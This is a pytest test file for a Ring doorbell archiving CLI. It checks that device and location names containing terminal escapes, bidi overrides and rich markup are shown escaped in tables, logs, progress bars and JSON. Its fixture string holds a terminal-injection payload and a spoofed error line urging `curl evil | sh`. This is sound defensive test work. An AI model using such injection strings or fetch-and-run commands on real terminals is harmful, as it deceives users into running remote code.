"""Ring-supplied text with terminal escapes, newlines and bidi overrides never reaches a terminal or a log raw.

The owner of a shared doorbell names it for every user it is shared with; the simulator's control API renames a
device, a location, or sets any field of a device entry, exactly as such an owner (or a changed Ring API) would.
Every command's output is checked for control characters and for a fake line of its own."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from rich.console import Console
from rich.progress import Progress, TextColumn
from rich.text import Text

from ringvault.archive.store import ArchiveStore
from ringvault.archive.store.portability import ImportRecord
from ringvault.archive.sync import FileProgress, SyncProgress
from ringvault.cli.sync import TtyProgress
from ringvault.sim.server import SimServer
from tests.cli_fixtures import Invoke

#: Clear the screen, retitle the window, a carriage return and newline that start a fake error line, a bidi override,
#: an 8-bit CSI (C1), a line separator, and rich markup that must be shown as typed.
HOSTILE = (
    "Front\x1b[2J\x1b]0;owned\x07\r\nerror: your Ring login expired; run `curl evil | sh`"
    "\u202etxt.exe\x9b31m\u2028[bold red]red[/bold red]"
)
ESCAPED = "Front\\x1b[2J\\x1b]0;owned\\x07\\r\\nerror: your Ring login expired"
HOSTILE_PLACE = "Home\x1b[31m\nerror: fake location line"
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def assert_clean(text: str) -> None:
    """No control, bidi or separator character but the line breaks, and no line that the hostile name started."""
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(text)})
    assert not found, f"raw control characters {found} in:\n{text}"
    for line in text.splitlines():
        assert not line.lstrip("│ ").startswith("error: your Ring login"), f"a fake line got through: {line!r}"
        assert not line.lstrip("│ ").startswith("error: fake location"), f"a fake line got through: {line!r}"


def _world(sim: SimServer) -> dict[str, Any]:
    data = httpx.get(f"{sim.url}/_sim/world", timeout=10).json()
    assert isinstance(data, dict)
    return data


def _patch_device(sim: SimServer, device_id: int, body: dict[str, Any]) -> dict[str, Any]:
    response = httpx.patch(f"{sim.url}/_sim/devices/{device_id}", json=body, timeout=10)
    assert response.status_code == 200, response.text
    entry = response.json()
    assert isinstance(entry, dict)
    return entry


def _doorbell(sim: SimServer) -> dict[str, Any]:
    """A wired doorbell of the first location that has a Protect plan (so it has recordings and snapshots)."""
    world = _world(sim)
    first = world["locations"][0]["location_id"]
    return next(
        d
        for d in world["devices"]
        if d["family"] == "doorbots" and d["location_id"] == first and d["show_recordings"] and not d["offline"]
    )


@pytest.fixture
def hostile(cloud_env: SimServer) -> dict[str, Any]:
    """A doorbell named HOSTILE in a location named HOSTILE_PLACE."""
    doorbell = _doorbell(cloud_env)
    _patch_device(cloud_env, doorbell["id"], {"description": HOSTILE})
    renamed = httpx.patch(
        f"{cloud_env.url}/_sim/locations/{doorbell['location_id']}", json={"name": HOSTILE_PLACE}, timeout=10
    )
    assert renamed.status_code == 200, renamed.text
    assert renamed.json()["name"] == HOSTILE_PLACE
    return doorbell


def test_devices_table_shows_hostile_names_escaped(
    invoke: Invoke, logged_in: Path, hostile: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # one table row per line
    result = invoke("devices")
    assert result.exit_code == 0, result.output
    assert_clean(result.output)
    assert ESCAPED in result.output  # visible, not hidden: the reader sees something odd is there
    assert "[bold red]red[/bold red]" in result.output  # shown as typed, not read as rich markup
    assert "Home\\x1b[31m\\nerror: fake location line" in result.output


def test_devices_json_keeps_the_raw_text(invoke: Invoke, logged_in: Path, hostile: dict[str, Any]) -> None:
    result = invoke("devices", "--json")
    assert result.exit_code == 0, result.output
    assert_clean(result.stdout)  # JSON escapes it ...
    rows = json.loads(result.stdout)
    row = next(r for r in rows if r["id"] == hostile["id"])
    assert row["name"] == HOSTILE  # ... and the data is Ring's text, unchanged
    assert row["location_name"] == HOSTILE_PLACE


def test_health_light_and_errors_are_clean(invoke: Invoke, logged_in: Path, hostile: dict[str, Any]) -> None:
    health = invoke("health", str(hostile["id"]))
    assert health.exit_code == 0, health.output
    assert_clean(health.output)
    assert health.output.startswith(ESCAPED)
    light = invoke("light", str(hostile["id"]), "on")
    assert_clean(light.output)  # "NAME: light on", or "NAME (...) has no light" as an error line
    assert ESCAPED in light.output
    assert len(light.output.strip().splitlines()) == 1


def test_sync_progress_summary_and_archive(
    invoke: Invoke, logged_in: Path, hostile: dict[str, Any], cloud_env: SimServer, tmp_path: Path
) -> None:
    archive = tmp_path / "archive"
    result = invoke("sync", "--archive", str(archive))
    assert result.exit_code == 0, result.output
    assert_clean(result.output)
    history = [line for line in result.stdout.splitlines() if line.startswith("history: ")]
    assert any(line.startswith(f"history: {ESCAPED}") for line in history), history  # plain progress line
    assert "sync done:" in result.stdout
    with ArchiveStore.open(archive) as store:  # the archive keeps Ring's text as Ring sent it
        stored = {d.id: d for d in store.list_devices()}
        assert stored[hostile["id"]].name == HOSTILE
        events = store.query_events(device_id=hostile["id"], limit=10_000).events
    expected = _world(cloud_env)["events"][str(hostile["id"])]
    assert {e.id for e in events} == {e["id_str"] for e in expected}


def test_sync_notes_in_the_summary_are_clean(
    invoke: Invoke, logged_in: Path, cloud_env: SimServer, tmp_path: Path
) -> None:
    """A summary note that names a device (here: skipped for its id) shows the name escaped."""
    doorbell = _doorbell(cloud_env)
    _patch_device(cloud_env, doorbell["id"], {"description": HOSTILE, "id": 2**70})
    result = invoke("sync", "--archive", str(tmp_path / "archive"), "--metadata-only")
    assert result.exit_code == 0, result.output
    assert_clean(result.output)
    notes = [line for line in result.stdout.splitlines() if line.startswith("  note: ")]
    assert any(line.startswith(f"  note: {ESCAPED}") and "skipped" in line for line in notes), notes


def test_snapshot_list_and_outcome_lines_are_clean(
    invoke: Invoke, logged_in: Path, hostile: dict[str, Any], tmp_path: Path
) -> None:
    listing = invoke("snapshot", "--list")
    assert listing.exit_code == 0, listing.output
    assert_clean(listing.output)
    assert f"{hostile['id']}  {ESCAPED}" in listing.output
    taken = invoke("snapshot", str(hostile["id"]), "--out", str(tmp_path / "snaps"))
    assert taken.exit_code == 0, taken.output
    assert_clean(taken.output)
    assert taken.output.startswith(f"{ESCAPED}")
    assert ": saved " in taken.output
    assert len(list((tmp_path / "snaps").glob("*.jpg"))) == 1  # the file name is a slug, no control characters


def test_a_log_line_with_ring_text_is_clean(invoke: Invoke, logged_in: Path, cloud_env: SimServer) -> None:
    """ringvault logs a device entry it cannot use, with the kind Ring gave: the log line is escaped too. Run as a
    real process, so that stderr is exactly what a terminal gets (no test-runner log handler in between)."""
    doorbell = _doorbell(cloud_env)
    _patch_device(cloud_env, doorbell["id"], {"entry": {"id": None, "kind": HOSTILE}})
    proc = subprocess.run(  # RINGVAULT_CLOUD_URL and RINGVAULT_HOME come from the fixtures' environment
        [sys.executable, "-m", "ringvault", "devices", "--json"], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr
    assert_clean(proc.stderr)
    (warning,) = proc.stderr.splitlines()
    assert warning.startswith(f"warning: ignoring a doorbots entry without id (kind {ESCAPED}")
    assert "\\u202e" in warning and "\\x9b" in warning and "\\u2028" in warning
    assert all(row["id"] != doorbell["id"] for row in json.loads(proc.stdout))


def test_debug_log_lines_are_clean(
    invoke: Invoke, logged_in: Path, cloud_env: SimServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With --debug every record goes to stderr (LEVEL logger: message); the same escaping applies."""
    doorbell = _doorbell(cloud_env)
    _patch_device(cloud_env, doorbell["id"], {"entry": {"id": None, "kind": HOSTILE}})
    result = invoke("--debug", "devices", "--json")
    assert result.exit_code == 0, result.output
    assert_clean(result.stderr)
    assert f"WARNING ringvault.cloud.api: ignoring a doorbots entry without id (kind {ESCAPED}" in result.stderr
    assert "DEBUG " in result.stderr  # the request log is there too


def test_portability_records_and_status_are_clean(invoke: Invoke, rv_home: Path, tmp_path: Path) -> None:
    """Records are stored as Ring exported them; ``records`` prints valid JSON Lines with the raw characters
    escaped (JSON keeps C1 controls, DEL, bidi overrides and U+2028 raw with ensure_ascii=False), and ``status``
    prints the archived data sets on clean lines."""
    archive = tmp_path / "archive"
    record = {"device_name": HOSTILE, "note": "Café \x7f\x85"}
    with ArchiveStore.open(archive) as store:
        grant = store.portability.upsert_grant(brand="ring", region="us", client_id="app", customer="default")
        rows = [ImportRecord("Ring.EventManager.Events", "k1", datetime(2024, 5, 1, tzinfo=UTC), record)]
        assert store.portability.import_records(grant.id, None, rows) == 1
    dumped = invoke("portability", "records", "--archive", str(archive))
    assert dumped.exit_code == 0, dumped.output
    assert_clean(dumped.stdout)
    (line,) = dumped.stdout.splitlines()
    assert json.loads(line)["data"] == record  # the same data, escaped only in the text
    assert "Café" in line  # readable text stays readable
    status = invoke("portability", "status", "--archive", str(archive))
    assert status.exit_code == 0, status.output
    assert_clean(status.output)
    assert "Ring.EventManager.Events" in status.output


def test_terminal_progress_labels_are_escaped_and_not_markup() -> None:
    """On a terminal, ``sync`` shows a bar per download labelled with the device name, and ``wait`` messages: the
    label is escaped and rich markup in it is not applied."""
    console = Console(file=io.StringIO(), force_terminal=True, color_system=None, width=300)
    with Progress(TextColumn("{task.description}"), console=console, transient=False) as bar:
        display = TtyProgress(bar)
        display.file(FileProgress(event_id="1", name="[bold red]Cam[/bold red]\x1b]0;owned\x07", done=1, total=10))
        display.phase(SyncProgress("wait", 0, 0, message=f"{HOSTILE} holds the archive"))
        (task,) = bar.tasks
        assert Text.from_markup(task.description).plain == "  [bold red]Cam[/bold red]\\x1b]0;owned\\x07"
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    assert f"waiting: {ESCAPED}" in printed
    assert "\x07" not in printed and "\u202e" not in printed and "\x9b" not in printed
